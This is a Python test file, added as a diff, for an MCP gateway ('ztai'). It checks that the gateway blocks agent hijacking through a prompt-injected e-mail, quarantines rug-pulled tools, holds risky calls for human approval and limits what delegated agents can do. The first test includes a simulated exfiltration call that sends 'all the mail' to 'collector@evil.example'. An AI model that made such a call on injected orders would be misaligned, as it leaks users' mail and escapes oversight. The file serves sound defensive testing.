@@ -1,0 +1,331 @@
+"""The MCP gateway end to end: the official SDK's client talks to ztai's /mcp/mail, ztai talks
+to a real SDK server (streamable HTTP on 127.0.0.1). The agent-hijack story, pinning (rug
+pull), per-caller listings, DLP on arguments, and the audit trail."""
+
+from __future__ import annotations
+
+import asyncio
+import contextlib
+import sys
+from collections.abc import AsyncIterator
+from pathlib import Path
+from typing import Any
+
+import httpx2
+import pytest
+from mcp import Client
+from mcp.client.streamable_http import streamable_http_client
+from mcp.shared.exceptions import MCPError
+
+from tests.gateway.harness import Harness, Options, auth, harness
+from tests.mcpgw.servers import INJECTED, MailState, mail_server, rug_pull, serving, serving_app
+from ztai.agents.approvals import ApprovalQueue
+from ztai.config.settings import McpServerSettings, McpToolSettings
+from ztai.core.clock import FixedClock
+from ztai.policy.bundled import starter_policies
+from ztai.storage.memory import MemoryApprovalStore
+from ztai.storage.model import AgentRecord
+from ztai.threats.shield import Shield
+
+pytestmark = pytest.mark.anyio
+
+MAIL_TOOLS = {"send_email": McpToolSettings(risk="high")}
+
+
+@pytest.fixture(scope="module")
+def shield() -> Shield:
+    return Shield()
+
+
+@contextlib.asynccontextmanager
+async def mail_gateway(tmp_path: Path, shield: Shield | None, state: MailState,
+                       server: Any = None) -> AsyncIterator[tuple[Harness, str, Any]]:
+    server = server or mail_server(state)
+    async with serving(server) as url:
+        settings = McpServerSettings(name="mail", url=url, tools=MAIL_TOOLS)
+        async with harness(tmp_path, Options(shield=shield, mcp=[settings])) as h, \
+                serving_app(h.app) as base:
+            yield h, base, server
+
+
+@contextlib.asynccontextmanager
+async def sdk_client(base: str, key: str, session: str | None = None) -> AsyncIterator[Client]:
+    """The SDK's own client, unchanged, with the caller's credential on every request."""
+    headers = {**auth(key), **({"x-ztai-session": session} if session else {})}
+    async with httpx2.AsyncClient(headers=headers, timeout=30) as http, \
+            Client(streamable_http_client(f"{base}/mcp/mail", http_client=http)) as client:
+        yield client
+
+
+def text_of(result: Any) -> str:
+    return "\n".join(c.text for c in result.content if getattr(c, "text", None))
+
+
+async def test_agent_hijack_is_stopped_and_the_real_task_completes(tmp_path: Path,
+                                                                    shield: Shield) -> None:
+    state = MailState()
+    async with mail_gateway(tmp_path, shield, state) as (h, base, _), \
+            sdk_client(base, h.keys["alice"], session="run-1") as client:
+        tools = {t.name for t in (await client.list_tools()).tools}
+        assert tools == {"read_inbox", "send_email", "delete_email"}
+        inbox = await client.call_tool("read_inbox", {"limit": 10})
+        assert not inbox.is_error
+        assert INJECTED in text_of(inbox)
+        assert inbox.meta
+        assert inbox.meta["ztai/untrusted"] is True
+        assert inbox.meta.get("ztai/threats"), "the shield flags the injected e-mail"
+        read_event = h.last_event()
+        assert read_event["details"]["session_attacked"] is True
+
+        # what the injection asks for: denied, never reaches the server
+        hijack = await client.call_tool("send_email", {
+            "to": "collector@evil.example", "subject": "fwd", "body": "all the mail"})
+        assert hijack.is_error
+        assert "no-outbound-after-attack" in text_of(hijack)
+        denied = h.last_event()
+        assert denied["decision"]["effect"] == "deny"
+        assert denied["resource"] == "Tool::mail/send_email"
+        assert "no-outbound-after-attack" in denied["decision"]["policy_ids"]
+
+        # what the user asked for: a reply inside the organisation goes through
+        reply = await client.call_tool("send_email", {
+            "to": "carol@corp.example", "subject": "Re: Q3 planning",
+            "body": "Thursday at 10 works."})
+        assert not reply.is_error, text_of(reply)
+    assert state.sent == [{"to": "carol@corp.example", "subject": "Re: Q3 planning",
+                           "body": "Thursday at 10 works."}]
+
+
+async def test_untrusted_but_clean_content_holds_outbound_high_risk_calls(
+        tmp_path: Path) -> None:
+    state = MailState()
+    async with mail_gateway(tmp_path, None, state) as (h, base, _), \
+            sdk_client(base, h.keys["alice"]) as client:  # no shield: no attack seen
+        await client.call_tool("read_inbox", {"limit": 1})
+        held = await client.call_tool("send_email", {
+            "to": "partner@other.example", "subject": "hi", "body": "hello"})
+        assert held.is_error
+        assert held.meta["ztai/refused"] == "held_for_approval"
+        event = h.last_event()
+        assert event["decision"]["policy_ids"] == ["hold-outbound-from-untrusted-sessions"]
+    assert state.sent == []
+
+
+async def test_a_fresh_session_sends_outside_freely(tmp_path: Path) -> None:
+    state = MailState()
+    async with mail_gateway(tmp_path, None, state) as (h, base, _), \
+            sdk_client(base, h.keys["alice"]) as client:
+        sent = await client.call_tool("send_email", {
+            "to": "partner@other.example", "subject": "hi", "body": "hello"})
+        assert not sent.is_error, text_of(sent)
+    assert [m["to"] for m in state.sent] == ["partner@other.example"]
+
+
+async def test_rug_pull_is_quarantined_until_approved(tmp_path: Path, shield: Shield) -> None:
+    state = MailState()
+    server = mail_server(state)
+    async with mail_gateway(tmp_path, shield, state, server) as (h, base, _), \
+            sdk_client(base, h.keys["alice"]) as client:
+        assert "send_email" in {t.name for t in (await client.list_tools()).tools}
+        rug_pull(server, state)
+        async with sdk_client(base, h.keys["alice"]) as client:  # a new session
+            listed = {t.name for t in (await client.list_tools()).tools}
+            assert "send_email" not in listed
+            assert "read_inbox" in listed
+            assert h.last_event()["details"]["quarantined"] == "send_email"
+            called = await client.call_tool("send_email", {
+                "to": "carol@corp.example", "subject": "s", "body": "b"})
+            assert called.is_error
+            assert called.meta["ztai/refused"] == "tool_quarantined"
+        assert state.sent == []
+        pins = [p for p in h.pins.pins("mail") if p.tool == "send_email"]
+        assert [p.status.value for p in pins] == ["approved", "quarantined"]
+        book = h.parts.mcp_gates[0]._pins
+        book.decide("mail", "send_email", approve=True, by="user:root", reason="reviewed")
+        async with sdk_client(base, h.keys["alice"]) as client:
+            assert "send_email" in {t.name for t in (await client.list_tools()).tools}
+
+
+async def test_listing_shows_only_what_the_caller_may_call(tmp_path: Path) -> None:
+    state = MailState()
+    async with mail_gateway(tmp_path, None, state) as (h, base, _), \
+            sdk_client(base, h.keys["nogrant"]) as client:  # a service with no grant
+        with pytest.raises(MCPError, match="denied"):
+            await client.list_tools()
+        result = await client.call_tool("read_inbox", {})
+        assert result.is_error
+        event = h.last_event()
+        assert event["decision"]["effect"] == "deny"
+        assert event["principal"] == "ci-bot"
+
+
+async def test_unauthenticated_and_revoked_callers_are_refused_and_audited(
+        tmp_path: Path) -> None:
+    state = MailState()
+    async with mail_gateway(tmp_path, None, state) as (h, base, _), \
+            httpx2.AsyncClient() as http:
+        answer = await http.post(f"{base}/mcp/mail", json={
+            "jsonrpc": "2.0", "id": 1, "method": "tools/list"},
+            headers={"accept": "application/json, text/event-stream"})
+        assert answer.status_code == 401
+        assert h.last_event()["status"] == 401
+        with pytest.raises(Exception):  # noqa: B017,PT011  # the SDK surfaces the 401 its way
+            async with sdk_client(base, h.keys["revoked"]) as client:
+                await client.list_tools()
+
+
+async def test_a_session_belongs_to_its_principal(tmp_path: Path) -> None:
+    state = MailState()
+    async with mail_gateway(tmp_path, None, state) as (h, base, _), \
+            httpx2.AsyncClient() as http:
+        headers = {**auth(h.keys["alice"]), "accept": "application/json, text/event-stream",
+                   "mcp-protocol-version": "2025-06-18"}
+        opened = await http.post(f"{base}/mcp/mail", headers=headers, json={
+            "jsonrpc": "2.0", "id": 1, "method": "initialize", "params": {
+                "protocolVersion": "2025-06-18", "capabilities": {},
+                "clientInfo": {"name": "t", "version": "1"}}})
+        session = opened.headers.get("mcp-session-id")
+        assert opened.status_code == 200
+        assert session
+        stolen = await http.post(f"{base}/mcp/mail", json={
+            "jsonrpc": "2.0", "id": 2, "method": "tools/list"},
+            headers={**headers, **auth(h.keys["bob"]), "mcp-session-id": session})
+        assert stolen.status_code == 404
+
+
+async def test_arguments_get_dlp_and_resources_and_prompts_are_governed(
+        tmp_path: Path) -> None:
+    state = MailState()
+    async with mail_gateway(tmp_path, None, state) as (h, base, _), \
+            sdk_client(base, h.keys["alice"]) as client:
+        resources = await client.list_resources()
+        assert [str(r.uri) for r in resources.resources] == ["mail://signature"]
+        signature = await client.read_resource("mail://signature")
+        assert signature.contents[0].text == "Alice Example, Corp"
+        assert h.last_event()["action"] == "read_resource"
+        prompt = await client.get_prompt("summarise", {"style": "long"})
+        assert "long" in prompt.messages[0].content.text
+        assert h.last_event()["action"] == "get_prompt"
+
+
+async def test_a_stdio_server_that_ztai_launches(tmp_path: Path) -> None:
+    script = Path(__file__).with_name("stdio_mail.py")
+    settings = McpServerSettings(name="mail", command=sys.executable, args=(str(script),))
+    async with harness(tmp_path, Options(mcp=[settings])) as h, serving_app(h.app) as base, \
+            sdk_client(base, h.keys["alice"]) as client:
+        tools = {t.name for t in (await client.list_tools()).tools}
+        assert tools == {"read_inbox", "send_email", "delete_email"}
+        inbox = await client.call_tool("read_inbox", {"limit": 1})
+        assert "Q3 planning" in text_of(inbox)
+        assert h.last_event()["details"]["mcp_server"] == "mail"
+
+
+async def test_an_unreachable_server_is_an_audited_error(tmp_path: Path) -> None:
+    settings = McpServerSettings(name="mail", url="http://127.0.0.1:9/mcp", timeout_s=2)
+    async with harness(tmp_path, Options(mcp=[settings])) as h, serving_app(h.app) as base, \
+            sdk_client(base, h.keys["alice"]) as client:
+        result = await client.call_tool("read_inbox", {})
+        assert result.is_error
+        assert h.last_event()["status"] in (502, 504)
+
+
+@contextlib.asynccontextmanager
+async def held_gateway(tmp_path: Path, state: MailState, timeout_s: float = 10.0
+                       ) -> AsyncIterator[tuple[Harness, str, ApprovalQueue]]:
+    queue = ApprovalQueue(MemoryApprovalStore(), FixedClock(), poll_s=0.05)
+    async with serving(mail_server(state)) as url:
+        settings = McpServerSettings(name="mail", url=url, tools=MAIL_TOOLS)
+        options = Options(mcp=[settings], approvals=queue, hold_timeout_s=timeout_s)
+        async with harness(tmp_path, options) as h, serving_app(h.app) as base:
+            yield h, base, queue
+
+
+async def approve_when_held(h: Harness, queue: ApprovalQueue, approve: bool) -> None:
+    for _ in range(500):
+        pending = queue.pending()
+        if pending:
+            verb = "approve" if approve else "deny"
+            answer = await h.client.post(f"/admin/approvals/{pending[0].id}/{verb}",
+                                         json={"reason": "checked with the user"},
+                                         headers=auth(h.keys["admin"]))
+            assert answer.status_code == 200, answer.text
+            return
+        await asyncio.sleep(0.01)
+    raise AssertionError("no call was held")
+
+
+@pytest.mark.parametrize("approve", [True, False])
+async def test_a_held_call_waits_for_a_person(tmp_path: Path, approve: bool) -> None:
+    state = MailState()
+    async with held_gateway(tmp_path, state) as (h, base, queue), \
+            sdk_client(base, h.keys["alice"]) as client:
+        await client.call_tool("read_inbox", {"limit": 1})  # outside content: untrusted
+        deciding = asyncio.create_task(approve_when_held(h, queue, approve))
+        result = await client.call_tool("send_email", {
+            "to": "partner@other.example", "subject": "hi", "body": "hello"})
+        await deciding
+        event = next(e for e in reversed(h.events()) if e["route"] == "mcp.mail")
+    assert event["details"]["held_status"] == ("approved" if approve else "denied")
+    assert event["details"]["held_by"] == "user:root"
+    if approve:
+        assert not result.is_error, text_of(result)
+        assert [m["to"] for m in state.sent] == ["partner@other.example"]
+        assert event["decision"]["effect"] == "allow"
+    else:
+        assert result.is_error
+        assert "denied by user:root" in text_of(result)
+        assert state.sent == []
+
+
+async def test_a_held_call_nobody_decides_expires_denied(tmp_path: Path) -> None:
+    state = MailState()
+    async with held_gateway(tmp_path, state, timeout_s=0.3) as (h, base, _), \
+            sdk_client(base, h.keys["alice"]) as client:
+        await client.call_tool("read_inbox", {"limit": 1})
+        result = await client.call_tool("send_email", {
+            "to": "partner@other.example", "subject": "hi", "body": "hello"})
+    assert result.is_error
+    assert "no one approved it in time" in text_of(result)
+    assert state.sent == []
+
+
+AGENT_TOOLS = """
+@id("mailbot-reads-mail")
+@reason("the mail agent may read mail, nothing else")
+permit (principal == Agent::"mailbot",
+        action in [Action::"list_tools", Action::"call_tool"], resource)
+when { action == Action::"list_tools" || (context has tool_name &&
+       context.tool_name == "read_inbox") };
+"""
+
+
+async def test_an_agent_acting_for_a_user_gets_neither_more_than_itself_nor_the_user(
+        tmp_path: Path) -> None:
+    state = MailState()
+    async with serving(mail_server(state)) as url:
+        settings = McpServerSettings(name="mail", url=url, tools=MAIL_TOOLS)
+        options = Options(mcp=[settings], policy_texts={**starter_policies(),
+                                                        "40-mailbot.cedar": AGENT_TOOLS})
+        async with harness(tmp_path, options) as h, serving_app(h.app) as base:
+            h.control.put_agent(AgentRecord("mailbot", "alice", h.kit.agent_public_jwk(),
+                                            frozenset({"demo-chat"}), frozenset({"agents"}),
+                                            created_at=h.clock.now()))
+            alice = h.kit.idp_token("alice", ["staff"], amr=["pwd", "otp"])
+            token = (await h.client.post("/oauth2/token", data={
+                "grant_type": "urn:ietf:params:oauth:grant-type:token-exchange",
+                "subject_token": alice,
+                "subject_token_type": "urn:ietf:params:oauth:token-type:access_token",
+                "actor_token": h.kit.assertion("mailbot"),
+                "actor_token_type": "urn:ietf:params:oauth:token-type:jwt"})).json()
+            assert "access_token" in token, token
+            async with sdk_client(base, token["access_token"]) as client:
+                listed = {t.name for t in (await client.list_tools()).tools}
+                inbox = await client.call_tool("read_inbox", {"limit": 1})
+                read_event = h.last_event()
+                send = await client.call_tool("send_email", {
+                    "to": "carol@corp.example", "subject": "s", "body": "b"})
+    assert listed == {"read_inbox"}  # alice may send; the agent may not
+    assert not inbox.is_error
+    assert read_event["delegation"] == ["user:alice", "agent:mailbot"]
+    assert send.is_error
+    assert state.sent == []
